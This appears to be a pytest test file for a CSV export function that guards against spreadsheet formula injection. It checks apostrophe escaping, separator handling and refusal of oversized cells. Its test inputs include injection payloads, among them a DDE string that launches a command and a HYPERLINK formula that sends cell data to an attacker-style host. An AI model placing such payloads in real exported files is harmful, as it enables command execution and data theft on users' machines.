import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from .recipe import MAX_CELL, CellRefusedError, write_csv


def written(*row: object) -> list[str]:
    file = io.StringIO(newline="")
    write_csv(file, ["title"], [row])
    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1]


def test_ordinary_rows_come_through() -> None:
    assert written("bob", 'say "hi", twice', "two\nlines", -5, 1.5, Decimal("-2.50"), None, True) == [
        "bob", 'say "hi", twice', "two\nlines", "-5", "1.5", "-2.50", "", "True",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\ufeff=1+1",
        "\0=1+1",
        "\uff1d1+1",
        "|calc",
        "%0A=1",
    ],
)
def test_attack_a_cell_that_could_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    [cell] = written(text)
    assert cell.startswith("'")
    assert cell.replace("'", "") == text.replace("\0", "").replace("'", "")


@pytest.mark.parametrize("text", ['x",=1+1,"', "x;=1+1;", "x\r\n=1+1", "x\t=1+1"])
def test_attack_no_separator_in_a_cell_starts_another(text: str) -> None:
    file = io.StringIO(newline="")
    write_csv(file, ["=title"], [[text, "second"]])
    header, row = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert header == ["'=title"]
    assert [cell.replace("'", "") for cell in row] == [text, "second"]


def test_attack_a_cell_that_would_run_into_the_next_is_refused() -> None:
    with pytest.raises(CellRefusedError):
        written("x" * MAX_CELL)


@given(st.text(max_size=30))
def test_the_text_can_always_be_read_back(text: str) -> None:
    [cell] = written(text)
    assert cell.replace("'", "") == text.replace("\0", "").replace("'", "")
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"} or not cell


@pytest.mark.parametrize(
    "text", ["x;=1+1;y", "x\n=1+1", 'x;"=1+1', "x; \t@SUM(1)", "x\r\n\u200b-1", "\u3000=1+1", "\u200e=1+1", "\u2028+1"]
)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_attack_no_cell_is_a_formula_where_the_list_separator_is_another(text: str, separator: str) -> None:
    # In the second column, a program that splits at semicolons no longer sees the quote as the beginning of a cell.
    file = io.StringIO(newline="")
    write_csv(file, ["id", "text"], [[1, text]])
    for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator):
        for cell in row:
            assert cell.lstrip(" \t\u200b\u200e\u2028\u3000")[:1] not in set("=+-@"), row


def test_text_with_separators_stays_as_it_is() -> None:
    assert written("a; b, c\nd - e; f=1") == ["a; b, c\nd - e; f=1"]
